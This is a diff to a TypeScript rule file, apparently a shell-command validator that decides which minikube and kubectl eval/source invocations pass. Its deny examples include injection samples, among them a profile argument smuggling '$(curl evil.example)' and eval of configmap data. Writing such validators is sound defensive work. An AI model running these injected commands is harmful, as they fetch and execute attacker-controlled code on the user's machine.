@@ -1187,10 +1187,12 @@ export const RUNNER_ENTRIES: ProgramEntry[] = [
     // VM from its profile (not --ssh-host or --shell of another shell; a profile name is a plain name).
     powershell: /^completion powershell$/,
     when: /^completion bash$|^(?:(?:-p|--profile)[ =][A-Za-z0-9][\w.-]* )?(?:docker|podman)-env(?: (?:(?:-p|--profile)[ =][A-Za-z0-9][\w.-]*|--shell[ =]bash|-u|--unset))*$/,
+    // docker-env prints `export DOCKER_HOST="tcp://…"` lines and `#` comments: no glob character, so unquoted is the same code.
+    split: /^(?:(?:-p|--profile)[ =][A-Za-z0-9][\w.-]* )?(?:docker|podman)-env(?: (?:(?:-p|--profile)[ =][A-Za-z0-9][\w.-]*|--shell[ =]bash|-u|--unset))*$/,
     config: /^(KUBECONFIG|KUBECTL_|MINIKUBE_|DOCKER_|CONTAINER_HOST)/,
     examples: {
-      deny: ['eval "$(kubectl get cm x -o jsonpath={.data.x})"', 'source <(kubectl get cm x -o jsonpath={.data.x})', 'eval "$(minikube docker-env --ssh-host)"', 'eval "$(minikube -p \'$(curl evil.example)\' docker-env)"', 'MINIKUBE_HOME=./m; eval "$(minikube docker-env)"', 'source <(kubectl completion bash | sed s/x/y/)'],
-      pass: ['eval "$(minikube docker-env)"', 'eval "$(minikube -p dev docker-env)"', 'eval "$(minikube docker-env --shell bash)"', 'eval "$(minikube docker-env -u)"', 'source <(kubectl completion bash)', 'source <(minikube completion bash)'],
+      deny: ['eval $(kubectl completion bash)', 'eval $(kubectl get cm x -o jsonpath={.data.x})', 'eval "$(kubectl get cm x -o jsonpath={.data.x})"', 'source <(kubectl get cm x -o jsonpath={.data.x})', 'eval "$(minikube docker-env --ssh-host)"', 'eval "$(minikube -p \'$(curl evil.example)\' docker-env)"', 'MINIKUBE_HOME=./m; eval "$(minikube docker-env)"', 'source <(kubectl completion bash | sed s/x/y/)'],
+      pass: ['eval "$(minikube docker-env)"', 'eval $(minikube docker-env)', 'eval $(minikube -p dev podman-env)', 'eval "$(minikube -p dev docker-env)"', 'eval "$(minikube docker-env --shell bash)"', 'eval "$(minikube docker-env -u)"', 'source <(kubectl completion bash)', 'source <(minikube completion bash)'],
     },
   }),
   shellInit({
